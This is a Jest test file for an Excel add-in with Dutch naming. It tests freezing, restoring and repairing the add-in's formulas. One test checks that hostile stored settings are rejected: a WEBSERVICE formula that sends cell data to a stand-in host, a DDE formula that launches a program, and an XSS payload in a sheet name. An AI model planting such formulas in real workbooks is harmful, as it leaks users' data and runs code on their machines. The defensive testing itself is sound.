/**
 * @jest-environment jsdom
 * @jest-environment-options {"resources": "usable"}
 */
import { freezeValues, repairFormulas, restoreFormulas } from "../../../../addin/workbook";
import { MemoryWorkbook } from "../../../../addin/workbench/host";
import { startOffice, type StartedOffice } from "../../../workbench/office";

let office: StartedOffice;
let workbook: MemoryWorkbook;

const answers: Record<string, string | number> = {
  "=RUIMTE.RUIMTEDRUK(Opgaven[#All],Grond[#All])": 0.8,
  '=RUIMTE.X("gevaarlijk")': "=1+1",
  "=1+1": 2,
  '="RUIMTE.X("&1': "RUIMTE.X(1",
};
const fill = [
  ["=RUIMTE.RUIMTEDRUK(Opgaven[#All],Grond[#All])", '=RUIMTE.X("gevaarlijk")'],
  ["=1+1", '="RUIMTE.X("&1'],
];
const at = (row: number, column: number) => ({ row, column, rows: 1, columns: 1 });
const cell = (sheet: string, row: number, column: number) => {
  const { cells } = workbook.sheets.find(({ name }) => name === sheet)!;
  return [cells.formulas(at(row, column))[0]![0], cells.values(at(row, column))[0]![0]];
};

function fresh(): MemoryWorkbook {
  const made = new MemoryWorkbook("Map1.xlsx", (formula) => answers[formula] ?? "#NAME?");
  made.fill("Uitkomst", fill);
  return made;
}

async function batches(run: () => Promise<unknown>): Promise<number> {
  const { sync } = OfficeExtension.ClientRequestContext.prototype;
  const counted = jest.spyOn(OfficeExtension.ClientRequestContext.prototype, "sync").mockImplementation(sync);
  await run();
  const { length } = counted.mock.calls;
  counted.mockRestore();
  return length;
}

beforeAll(async () => {
  workbook = fresh();
  office = await startOffice(workbook);
});
beforeEach(() => {
  workbook = fresh();
  office.become(workbook);
});
afterEach(() => {
  expect([...office.host.missing]).toEqual([]);
});

describe("freezing", () => {
  it("leaves the values of the add-in's formulas, as values, and no other formula changes", async () => {
    expect(await freezeValues()).toEqual({ frozen: 2, kept: [] });
    expect(cell("Uitkomst", 0, 0)).toEqual([0.8, 0.8]);
    expect(cell("Uitkomst", 0, 1)).toEqual(["=1+1", "=1+1"]);
    expect(cell("Uitkomst", 1, 0)).toEqual(["=1+1", 2]);
    expect(cell("Uitkomst", 1, 1)).toEqual(['="RUIMTE.X("&1', "RUIMTE.X(1"]);
  });

  it("and back: every formula where its values still stand, the others by name", async () => {
    await freezeValues();
    workbook.edit(workbook.sheets.find(({ name }) => name === "Uitkomst")!, 0, 0, 0.9);
    expect(await restoreFormulas()).toEqual({ restored: 1, changed: ["Uitkomst!A1"] });
    expect(cell("Uitkomst", 0, 1)).toEqual(['=RUIMTE.X("gevaarlijk")', "=1+1"]);
    expect(cell("Uitkomst", 0, 0)).toEqual([0.9, 0.9]);
    workbook.edit(workbook.sheets.find(({ name }) => name === "Uitkomst")!, 0, 0, 0.8);
    expect(await restoreFormulas()).toEqual({ restored: 1, changed: [] });
    expect(cell("Uitkomst", 0, 0)[0]).toBe(fill[0]![0]);
    expect(await restoreFormulas()).toEqual({ restored: 0, changed: [] });
  });

  it("passes a protected sheet by, and names its cells", async () => {
    workbook.fill("Slot", [["=RUIMTE.X(1)"]]).isProtected = true;
    expect(await freezeValues()).toEqual({ frozen: 2, kept: ["Slot!A1"] });
    expect(cell("Slot", 0, 0)[0]).toBe("=RUIMTE.X(1)");
  });

  it("takes as many batches for one sheet as for ten", async () => {
    const few = await batches(freezeValues);
    for (let sheet = 1; sheet <= 9; sheet++) workbook.fill(`Blad ${sheet}`, fill);
    expect(await batches(freezeValues)).toBe(few);
    // Excel.run closes with a batch of its own.
    expect(few).toBeLessThanOrEqual(6 + 1);
    expect(await batches(restoreFormulas)).toBeLessThanOrEqual(3 + 1);
    expect(await batches(repairFormulas)).toBeLessThanOrEqual(4 + 1);
  });
});

describe("what the workbook says it remembers", () => {
  const good = { sheet: "Uitkomst", row: 0, column: 0, rows: 1, columns: 1, formula: "=RUIMTE.X(1)", print: 0 };

  it.each([
    ["no list", "kwaad"],
    ["a formula that is not the add-in's", [{ ...good, formula: "=WEBSERVICE(\"https://kwaad.example\")" }]],
    ["a formula that reaches out beside the add-in's", [{ ...good, formula: '=RUIMTE.X(1)&WEBSERVICE("https://kwaad.example/"&A1)' }]],
    ["a formula that starts a program", [{ ...good, formula: "=RUIMTE.X(cmd|'/c calc'!A1)" }]],
    ["markup for a sheet", [{ ...good, sheet: "<img src=x onerror=alert(1)> en nog heel veel meer" }]],
    ["a place outside the sheet", [{ ...good, row: -1 }]],
    ["an area without end", [{ ...good, rows: 1e9 }]],
  ])("%s: counts as nothing", async (_what, remembered) => {
    workbook.settings.set("RUIMTE.bevroren", remembered);
    expect(await restoreFormulas()).toEqual({ restored: 0, changed: [] });
    expect(cell("Uitkomst", 0, 0)[0]).toBe(fill[0]![0]);
  });

  it("a sheet that is gone is named, the rest is put back", async () => {
    await freezeValues();
    const remembered = workbook.settings.get("RUIMTE.bevroren") as object[];
    workbook.settings.set("RUIMTE.bevroren", [...remembered, { ...good, sheet: "Weg" }]);
    expect(await restoreFormulas()).toEqual({ restored: 2, changed: ["Weg!A1"] });
  });
});

describe("repairing", () => {
  it("enters again only the add-in's formulas that show #NAME?", async () => {
    workbook.fill("Stuk", [["=RUIMTE.STAPELING(Opgaven[#All])", "=ONBEKEND(1)", "=_xldudf_RUIMTE_KOSTEN(1)"]]);
    answers["=RUIMTE.STAPELING(Opgaven[#All])"] = 12;
    answers["=RUIMTE.KOSTEN(1)"] = 13;
    expect(await repairFormulas()).toEqual({ repaired: ["Stuk!A1", "Stuk!C1"], kept: [] });
    expect([cell("Stuk", 0, 0), cell("Stuk", 0, 1), cell("Stuk", 0, 2)]).toEqual([
      ["=RUIMTE.STAPELING(Opgaven[#All])", 12], ["=ONBEKEND(1)", "#NAME?"], ["=RUIMTE.KOSTEN(1)", 13],
    ]);
    expect(await repairFormulas()).toEqual({ repaired: [], kept: [] });
  });
});

describe("large sheets", () => {
  const sheetOf = (name: string) => workbook.sheets.find((sheet) => sheet.name === name)!;

  it("one that is formatted to its last row is no more work than its formulas", async () => {
    sheetOf("Uitkomst").cells.writeNumberFormats({ row: 1_048_575, column: 16_383, rows: 1, columns: 1 }, [["0%"]]);
    const { cells } = sheetOf("Uitkomst");
    const read = jest.spyOn(cells, "values");
    expect(await freezeValues()).toEqual({ frozen: 2, kept: [] });
    for (const [{ rows, columns }] of read.mock.calls) expect(rows * columns).toBeLessThan(100);
    expect(await restoreFormulas()).toEqual({ restored: 2, changed: [] });
  });

  it("of 120.000 formulas the add-in's are found, in batches of 50.000 cells", async () => {
    const rows = Array.from({ length: 300 }, () => Array.from({ length: 400 }, (): string => "=1+1"));
    rows[299]![399] = '=RUIMTE.X("gevaarlijk")';
    workbook.fill("Groot", rows);
    const asked: number[] = [];
    const { cells } = sheetOf("Groot");
    const values = cells.values.bind(cells);
    jest.spyOn(cells, "values").mockImplementation((area) => {
      asked.push(area.rows * area.columns);
      return values(area);
    });
    const few = await batches(freezeValues);
    expect(cell("Groot", 299, 399)).toEqual(["=1+1", "=1+1"]);
    expect(cell("Groot", 299, 398)).toEqual(["=1+1", 2]);
    expect(few).toBeGreaterThanOrEqual(6 + 2);
    expect(Math.max(...asked)).toBeLessThanOrEqual(50_000);
  });
});
